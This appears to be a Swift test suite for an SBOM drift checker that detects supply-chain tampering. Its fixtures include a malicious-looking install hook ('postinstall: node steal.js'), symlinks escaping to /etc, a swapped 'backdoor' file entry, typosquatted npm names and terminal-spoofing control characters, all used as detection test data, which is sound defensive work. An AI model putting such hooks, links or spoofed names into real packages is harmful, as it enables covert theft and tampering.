        #expect(try DriftInput.read(file.path)?.configFiles == b.configFiles)
        let spdx = dir.appendingPathComponent("b.spdx.json")
        try OutputFormat.spdxJSON.render(b, info: info).write(to: spdx, atomically: true, encoding: .utf8)
        #expect(try DriftInput.read(spdx.path)?.configFiles == b.configFiles)
        if let out = ProcessInfo.processInfo.environment["PROVENANT_SBOM_OUT"] {
            try cdx.write(toFile: out + "/drift-config.cdx.json", atomically: true, encoding: .utf8)
            try? fm.copyItem(at: spdx, to: URL(fileURLWithPath: out + "/drift-config.spdx.json"))
        }
    }

    /// A manifest or `--config` file that is a symbolic link was left out without a word, so a changed
    /// manifest behind the link passed `diff` (found by helper-135). It is read through the link, inside
    /// the target only; a link that leads out or nowhere is NOT CHECKED.
    @Test func configurationFilesBehindLinksAreRecordedOrNotChecked() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let fm = FileManager.default
        for d in ["t/real", "t/app", "t/x"] { try fm.createDirectory(at: dir.appendingPathComponent(d), withIntermediateDirectories: true) }
        let real = dir.appendingPathComponent("t/real/agent.yaml")
        try "egress: []\n".write(to: real, atomically: true, encoding: .utf8)
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("t/app/provenant.agent.yaml").path, withDestinationPath: "../real/agent.yaml")
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("t/x/provenant.agent.yaml").path, withDestinationPath: "../../../../../../etc/hostname")
        let target = dir.appendingPathComponent("t").path
        let a = try await catalog(target)
        #expect(a.configFiles?.map(\.path) == ["app/provenant.agent.yaml"])
        #expect(a.diagnostics.contains { $0.location.path == "x/provenant.agent.yaml" && $0.unscanned != nil && $0.message.contains("leaves the scan target") })
        try "egress: [\"0.0.0.0/0\"]\n".write(to: real, atomically: true, encoding: .utf8)
        let b = try await catalog(target)
        #expect(pairs(compare(a, b).findings) == ["drift:config-changed app/provenant.agent.yaml"])
        // A --config glob naming files through a linked directory matched nothing (helper-138): they are
        // matched under the link's name, and a link out of the target that a glob names below is not checked.
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("t/conf").path, withDestinationPath: "real")
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("t/outside").path, withDestinationPath: "/etc")
        let c = try await catalog(target, config: ["conf/*.yaml", "outside/*.conf"])
        #expect(c.configFiles?.map(\.path) == ["app/provenant.agent.yaml", "conf/agent.yaml"], "\(String(describing: c.configFiles))")
        #expect(c.diagnostics.contains { $0.location.path == "outside" && $0.unscanned != nil })
        // A glob of any depth through a link out is not checked either (helper-139).
        let d = try await catalog(target, config: ["**/*.conf"])
        #expect(d.diagnostics.contains { $0.location.path == "outside" && $0.unscanned != nil })
        // A FIFO named as the manifest is never opened, and is said as not checked (left undone by helper-138).
        try fm.createDirectory(at: dir.appendingPathComponent("t/f"), withIntermediateDirectories: true)
        #expect(mkfifo(dir.appendingPathComponent("t/f/provenant.agent.yaml").path, 0o600) == 0)
        let e = try await catalog(target)
        #expect(e.diagnostics.contains { $0.location.path == "f/provenant.agent.yaml" && $0.unscanned != nil && $0.message.contains("not a regular file") },
                "\(e.diagnostics.map(\.message))")
    }

    @Test func lookalikesAreJudgedAgainstEstablishedNamesAndTheNamesFile() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func bom(_ names: [String]) -> String {
            let cs = names.map { #"{"type":"library","name":"\#($0)","version":"1.0.0","purl":"pkg:npm/\#($0)@1.0.0"}"# }
            return #"{"bomFormat":"CycloneDX","specVersion":"1.6","components":[\#(cs.joined(separator: ","))]}"#
        }
        try bom(["express", "lodash"]).write(to: dir.appendingPathComponent("a.json"), atomically: true, encoding: .utf8)
        try bom(["express", "lodash", "expresss", "safe-buffer", "safer-buffer", "reqeust"]).write(to: dir.appendingPathComponent("b.json"), atomically: true, encoding: .utf8)
        let a = try #require(try DriftInput.read(dir.appendingPathComponent("a.json").path))
        let b = try #require(try DriftInput.read(dir.appendingPathComponent("b.json").path))
        let d = compare(a, b)
        #expect(d.findings.filter { $0.rule == .lookalike }.map(\.subject) == ["pkg:npm/expresss@1.0.0"], "two new names near each other are not a squat")
        let withNames = compare(a, b, names: ["request"])
        #expect(Set(withNames.findings.filter { $0.rule == .lookalike }.map(\.subject)) == ["pkg:npm/expresss@1.0.0", "pkg:npm/reqeust@1.0.0"])
    }

    @Test func theSameVersionWithAnotherLicenseOrANewInstallScriptIsReported() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func bom(_ license: String, _ script: String?) -> String {
            let props = script.map { #","properties":[{"name":"provenant:install-script","value":"\#($0)"}]"# } ?? ""
            return #"{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"library","name":"left-pad","version":"1.3.0","purl":"pkg:npm/left-pad@1.3.0","licenses":[{"license":{"id":"\#(license)"}}]\#(props)}]}"#
        }
        try bom("MIT", nil).write(to: dir.appendingPathComponent("a.json"), atomically: true, encoding: .utf8)
        try bom("GPL-3.0-only", "postinstall: node steal.js").write(to: dir.appendingPathComponent("b.json"), atomically: true, encoding: .utf8)
        let d = compare(try #require(try DriftInput.read(dir.appendingPathComponent("a.json").path)),
                        try #require(try DriftInput.read(dir.appendingPathComponent("b.json").path)))
        #expect(pairs(d.findings) == ["drift:license-changed pkg:npm/left-pad@1.3.0", "drift:install-script pkg:npm/left-pad@1.3.0"])
        #expect(d.findings.contains { $0.message.contains("postinstall: node steal.js") })
    }

    /// helper-145: a license changed along with an approved patch upgrade, or dropped at the same
    /// version, passed as no unapproved change.
    @Test func aLicenseChangedWithTheVersionOrDroppedIsReported() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func bom(_ version: String, _ license: String?) -> String {
            let l = license.map { #","licenses":[{"license":{"id":"\#($0)"}}]"# } ?? ""
            return #"{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"library","name":"lodash","version":"\#(version)","purl":"pkg:npm/lodash@\#(version)"\#(l)}]}"#
        }
        func read(_ name: String, _ text: String) throws -> Inventory {
            try text.write(to: dir.appendingPathComponent(name), atomically: true, encoding: .utf8)
            return try #require(try DriftInput.read(dir.appendingPathComponent(name).path))
        }
        let base = try read("a.json", bom("4.17.21", "MIT"))
        let policy = try DriftPolicy.parse("approve:\n  - id: patches\n    allow: patch-upgrades\n", path: "p.yaml")
        let moved = compare(base, try read("b.json", bom("4.17.22", "BUSL-1.1")), policy: policy)
        #expect(pairs(moved.findings) == ["drift:license-changed pkg:npm/lodash@4.17.22"], "\(moved.findings)")
        #expect(moved.approved.map(\.rule) == [.upgraded])
        #expect(moved.findings.first?.message.contains("was MIT, now BUSL-1.1") == true)
        let dropped = compare(base, try read("c.json", bom("4.17.21", nil)))
        #expect(pairs(dropped.findings) == ["drift:license-changed pkg:npm/lodash@4.17.21"], "\(dropped.findings)")
        #expect(dropped.findings.first?.message.contains("now none is recorded") == true)
        #expect(compare(try read("d.json", bom("4.17.21", nil)), base).findings.isEmpty, "a license only the current side records changes no terms")
        #expect(compare(base, try read("e.json", bom("4.17.22", "MIT")), policy: policy).findings.isEmpty)
    }

    /// Found by review: at the same version, an md5sums digest made unreadable, or a line swapped for
    /// one naming another file, compared as unchanged; both are changed content now.
    @Test func theSameVersionWithOtherRecordedFilesIsTampered() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let a = "0123456789abcdef0123456789abcdef", b = "fedcba9876543210fedcba9876543210"
        func root(_ name: String, _ sums: String) throws -> String {
            let r = dir.appendingPathComponent(name)
            try FileManager.default.createDirectory(at: r.appendingPathComponent("var/lib/dpkg/info"), withIntermediateDirectories: true)
            try "Package: foo\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\n\n"
                .write(to: r.appendingPathComponent("var/lib/dpkg/status"), atomically: true, encoding: .utf8)
            try sums.write(to: r.appendingPathComponent("var/lib/dpkg/info/foo.md5sums"), atomically: true, encoding: .utf8)
            try "/usr/bin/foo\n/usr/lib/libfoo.so\n".write(to: r.appendingPathComponent("var/lib/dpkg/info/foo.list"), atomically: true, encoding: .utf8)
            return r.path
        }
        let base = try await catalog(try root("base", "\(a)  usr/bin/foo\n\(b)  usr/lib/libfoo.so\n"))
        #expect(compare(base, base).findings.isEmpty)
        let unreadable = try await catalog(try root("unreadable", "XXXX  usr/bin/foo\n\(b)  usr/lib/libfoo.so\n"))
        let d1 = compare(base, unreadable)
        #expect(d1.findings.contains { $0.rule == .tampered && $0.message.contains("no longer recorded with a digest: /usr/bin/foo") || $0.message.contains("usr/bin/foo") && $0.rule == .tampered },
                "\(d1.findings.map(\.message))")
        let swapped = try await catalog(try root("swapped", "\(a)  usr/bin/foo\n\(b)  usr/bin/backdoor\n"))
        let d2 = compare(base, swapped)
        #expect(d2.findings.contains { $0.rule == .tampered && $0.message.contains("backdoor") }, "\(d2.findings.map(\.message))")
    }

    @Test func contentWithoutDigestsIsNotCheckedRatherThanClean() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let req = dir.appendingPathComponent("requirements.txt")
        try "requests==2.31.0\nidna==3.7\n".write(to: req, atomically: true, encoding: .utf8)
        let inv = try await catalog(req.path)
        let d = compare(inv, inv)
        #expect(d.findings.isEmpty)
        #expect(d.contentNotCompared == ["pkg:pypi/idna@3.7", "pkg:pypi/requests@2.31.0"])
        #expect(d.notes.contains { $0.hasPrefix("NOT CHECKED: the content of 2 unchanged-version packages") })
    }

    /// A chain of new packages under existing ones: one walk of the graph, and each finding's path is
    /// shortened, so the report grows with the packages, not with their square.
    @Test func aDeepChainOfNewPackagesGivesShortPaths() throws {
        let n = 300
        let base = (0..<n).map { #"{"type":"library","name":"x\#($0)","version":"1.0.0","purl":"pkg:npm/x\#($0)@1.0.0","bom-ref":"x\#($0)"}"# }
        let added = (0..<n).map { #"{"type":"library","name":"y\#($0)","version":"1.0.0","purl":"pkg:npm/y\#($0)@1.0.0","bom-ref":"y\#($0)"}"# }
        let deps = (0..<n).map { i in #"{"ref":"x\#(i)","dependsOn":["y\#(i)"\#(i + 1 < n ? ",\"x\(i + 1)\"" : "")]}"# }
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        try #"{"bomFormat":"CycloneDX","specVersion":"1.6","components":[\#(base.joined(separator: ","))]}"#.write(to: dir.appendingPathComponent("a.json"), atomically: true, encoding: .utf8)
        try #"{"bomFormat":"CycloneDX","specVersion":"1.6","components":[\#((base + added).joined(separator: ","))],"dependencies":[\#(deps.joined(separator: ","))]}"#
            .write(to: dir.appendingPathComponent("b.json"), atomically: true, encoding: .utf8)
        let d = compare(try #require(try DriftInput.read(dir.appendingPathComponent("a.json").path)),
                        try #require(try DriftInput.read(dir.appendingPathComponent("b.json").path)))
        let transitive = d.findings.filter { $0.rule == .newTransitive }
        #expect(transitive.count == n)
        let deepest = try #require(transitive.first { $0.subject == "pkg:npm/y\(n - 1)@1.0.0" })
        #expect(deepest.message.contains("pkg:npm/x0@1.0.0 > pkg:npm/x1@1.0.0") && deepest.message.contains("more …"))
        #expect(transitive.allSatisfy { $0.message.count < 600 })
    }
}

/// The table quotes package names in its subject and detail columns: a TAB would shift the columns
/// after the subject, and C1 controls or bidirectional overrides would reach the terminal raw.
@Suite struct DriftTableEscapeTests {
    @Test func namesAreEscapedInEveryColumnAndNote() {
        let odd = "pkg:npm/ev\u{202E}il\u{9B}2Jt\tab@1.0.0"
        let f = DriftFinding(rule: .added, subject: odd, message: "\(odd) was added")
        let plain = DriftFinding(rule: .added, subject: "pkg:npm/plain@1.0.0", message: "pkg:npm/plain@1.0.0 was added")
        let table = DriftReport(findings: [f, plain], notes: ["note about \(odd)"], summary: "baseline 1 packages, current 3").table
        #expect(!table.unicodeScalars.contains { $0.value == 0x202E || $0.value == 0x9B }, "\(table)")
        #expect(table.contains("ev\\u{202E}il\\u{9B}2Jt\\u{9}ab"), "\(table)")
        // Every row's detail starts in the header's column (the detail, last, may keep its TAB).
        let lines = table.split(separator: "\n").map(String.init)
        func column(_ l: String, _ word: String) -> Int? { l.range(of: word).map { l.distance(from: l.startIndex, to: $0.lowerBound) } }
        let header = lines.first { $0.hasPrefix("SEVERITY") } ?? ""
        let oddRow = lines.first { $0.contains("ev\\u{202E}") } ?? ""
        let plainRow = lines.first { $0.contains("plain@1.0.0 was added") } ?? ""
        #expect(column(header, "DETAIL") != nil)
        #expect(column(oddRow, "ev\\u{202E}il\\u{9B}2Jt\tab@1.0.0 was added").map { $0 - "pkg:npm/".count } == column(header, "DETAIL"), "\(table)")
        #expect(column(plainRow, "pkg:npm/plain@1.0.0 was") == column(header, "DETAIL"), "\(table)")
        #expect(table.contains("note: note about pkg:npm/ev\\u{202E}"), "\(table)")
    }
}
